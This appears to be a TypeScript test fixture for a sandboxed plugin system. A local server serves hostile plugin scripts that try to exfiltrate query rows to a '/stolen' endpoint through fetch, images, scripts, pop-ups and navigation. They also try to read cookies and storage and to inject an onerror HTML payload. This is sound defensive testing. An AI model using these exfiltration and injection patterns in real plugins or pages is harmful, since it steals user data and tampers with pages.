import { readFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";

const EXAMPLE = readFileSync(join(import.meta.dirname, "../../demo/plugins/dot-plot.js"), "utf8");

/**
 * Tries everything that a plugin may not do: each attempt that succeeds requests an address of its host, or changes the
 * page. It draws what failed.
 */
const hostile = (host: string): string => `
const { port, root } = globalThis.edgewise;
const refused = [];
const attempt = (name, run) => { try { run(); } catch { refused.push(name); } };
port.onmessage = async ({ data }) => {
  if (data.type === "resize") return;
  const rows = encodeURIComponent(JSON.stringify(data.queries[0].data));
  attempt("document", () => parent.document.body.replaceChildren());
  attempt("cookies", () => document.cookie);
  attempt("storage", () => localStorage.length);
  attempt("top", () => { top.location.href = "${host}/stolen?top=" + rows; });
  await fetch("${host}/stolen?fetch=" + rows).catch(() => refused.push("fetch"));
  await fetch("/api/v1/me/").catch(() => refused.push("api"));
  new Image().src = "${host}/stolen?image=" + rows;
  const script = document.createElement("script");
  script.src = "${host}/stolen?script=" + rows;
  script.onerror = () => { refused.push("script"); report(); };
  document.head.append(script);
  if (open("${host}/stolen?window=" + rows) === null) refused.push("window");
  port.postMessage({ type: "setFilter", filter: { "secret": "x" } });
  port.postMessage({ type: "error", message: { html: "<img src=x onerror=pwned()>" } });
  function report() { root.textContent = refused.sort().join(" "); port.postMessage({ type: "rendered" }); }
};`;

const flood = `
const { port } = globalThis.edgewise;
port.onmessage = () => { for (let sent = 0; sent < 5000; sent++) port.postMessage({ type: "rendered", sent }); };`;

const navigates = (host: string): string => `
const { port } = globalThis.edgewise;
port.onmessage = ({ data }) => { if (data.type === "init") location.href = "${host}/stolen?navigated"; };`;

const silent = `globalThis.edgewise.port.onmessage = () => {};`;
const fails = `throw new Error("<b>no such shape</b>");`;

/** A host of plugins that records the addresses at which rows would arrive. */
export class PluginHost {
  readonly stolen: string[] = [];
  private constructor(
    private readonly server: Server,
    readonly origin: string,
  ) {}

  static async start(): Promise<PluginHost> {
    const server = createServer((request, response) => {
      const path = request.url ?? "/";
      if (path.startsWith("/stolen")) host.stolen.push(path);
      const script = scripts[path];
      response.writeHead(script === undefined ? 404 : 200, { "content-type": "text/javascript" });
      response.end(script);
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    const host = new PluginHost(server, `http://127.0.0.1:${(server.address() as AddressInfo).port}`);
    const scripts: Record<string, string> = {
      "/dot-plot.js": EXAMPLE,
      "/hostile.js": hostile(host.origin),
      "/flood.js": flood,
      "/navigates.js": navigates(host.origin),
      "/silent.js": silent,
      "/fails.js": fails,
    };
    return host;
  }

  stop(): Promise<void> {
    return new Promise((resolve) => this.server.close(() => resolve()));
  }
}
